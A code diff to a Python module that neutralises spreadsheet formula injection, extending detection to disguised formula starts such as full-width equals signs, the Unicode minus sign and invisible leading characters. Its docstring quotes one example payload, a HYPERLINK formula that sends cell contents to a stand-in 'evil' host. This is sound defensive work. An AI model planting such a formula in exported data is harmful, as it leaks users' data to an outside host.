@@ -3,8 +3,10 @@
 A spreadsheet reads a cell beginning with ``=``, ``+``, ``-``, ``@`` (and, in some, ``|`` or
 ``%``) as a formula, even after leading spaces, and a leading tab, CR or LF can hide it. Values
 that came from a server are untrusted: a title such as ``=HYPERLINK("http://evil/?"&A1)`` must
-reach the auditor as text. The policy touches **text only**: numbers (a negative number too) and
-text that is a plain number (``"-3"``) are left alone, as nothing can run in them.
+reach the auditor as text, and so must one in disguise: a full-width ``＝``, a minus sign ``−``,
+or a ``=`` behind invisible characters (a byte-order mark, a zero-width space). The policy
+touches **text only**: numbers (a negative number too) and text that is a plain number
+(``"-3"``) are left alone, as nothing can run in them.
 
 Pure: no I/O. CSV applies :func:`safe_cell` (a leading ``'``); Excel keeps the value and marks the
 cell with a quote-prefix style (:func:`risky`); HTML escapes everything instead.
@@ -14,6 +16,7 @@ from __future__ import annotations
 
 import json
 import re
+import unicodedata
 from collections.abc import Mapping
 from typing import Any, Literal
 
@@ -39,6 +42,9 @@ FORMULA_POLICIES: tuple[FormulaPolicy, ...] = ("escape", "off")
 # A leading control character is risky whatever follows; otherwise the first character after
 # whitespace and control characters decides.
 _RISKY = re.compile(r"[\t\r\n\x00]|[\s\x00-\x1f]*[=+\-@|%]")
+# The first character past them that is not ASCII: it may be one in disguise (see _disguised).
+_FOREIGN = re.compile(r"[\s\x00-\x1f]*[^\x00-\x7f]")
+_FORMULA_STARTS = "=+-@|%\u2212"  # U+2212, the minus sign, which some spreadsheets take for -
 _NUMBER = re.compile(r"\s*[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\s*")
 
 
@@ -50,9 +56,22 @@ def risky(text: str) -> bool:
     >>> risky("=1+1"), risky("  @SUM(A1)"), risky("\\t=x"), risky("-3"), risky("sunset")
     (True, True, True, False, False)
     """
-    if not _RISKY.match(text):
+    if not _RISKY.match(text) and not (_FOREIGN.match(text) and _disguised(text)):
         return False
-    return text[:1] in "\t\r\n\x00" or not _NUMBER.fullmatch(text)
+    return text[:1] in "\t\r\n\x00" or not _NUMBER.fullmatch(
+        unicodedata.normalize("NFKC", text).replace("\u2212", "-")
+    )
+
+
+def _disguised(text: str) -> bool:
+    """Whether ``text`` starts with a formula character in disguise: a full-width ``＝`` or
+    ``＋`` (a spreadsheet may fold it to ``=``, ``+``), the minus sign, or one behind invisible
+    format characters (a byte-order mark, a zero-width space, a direction override)."""
+    for char in text:
+        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf"):
+            continue
+        return unicodedata.normalize("NFKC", char)[:1] in _FORMULA_STARTS
+    return False
 
 
 def safe_cell(value: Any, policy: FormulaPolicy = "escape") -> Any:
